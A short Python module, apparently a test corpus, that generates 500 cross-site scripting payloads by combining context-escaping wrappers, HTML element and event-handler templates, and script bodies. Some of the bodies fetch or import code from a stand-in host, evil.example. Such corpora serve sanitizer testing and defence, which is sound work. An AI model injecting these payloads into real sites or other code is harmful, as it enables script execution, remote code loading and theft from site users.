"""Texts that try to become something else than text: five hundred of them, always the same."""

import itertools

SCRIPTS = [
    "alert(1)",
    "window.hit=1",
    "document.title='hit'",
    "fetch('//evil.example')",
    "import('//evil.example/x')",
]
ELEMENTS = [
    "<script>{0}</script>",
    "<ScRiPt src=//evil.example></sCrIpT>{0}",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'></foreignObject></svg>",
    "<math><mtext><img src=x onerror={0}>",
    '<iframe src="javascript:{0}"></iframe>',
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href=javascript:{0}>a</a>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<embed src='javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>{0}",
    "<form action=javascript:{0}><button autofocus></form>",
    "<style>@import '//evil.example/{0}'</style>",
    "<template><img src=x onerror={0}></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<textarea></textarea><img src=x onerror={0}>",
]
WRAPPINGS = [
    "{0}",
    "\"'>{0}",
    "]]>{0}<!--",
    "</textarea></title></script>{0}",
]  # out of whatever it may be in

PAYLOADS = [
    wrap.format(element.format(script))
    for wrap, element, script in itertools.product(WRAPPINGS, ELEMENTS, SCRIPTS)
]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 500
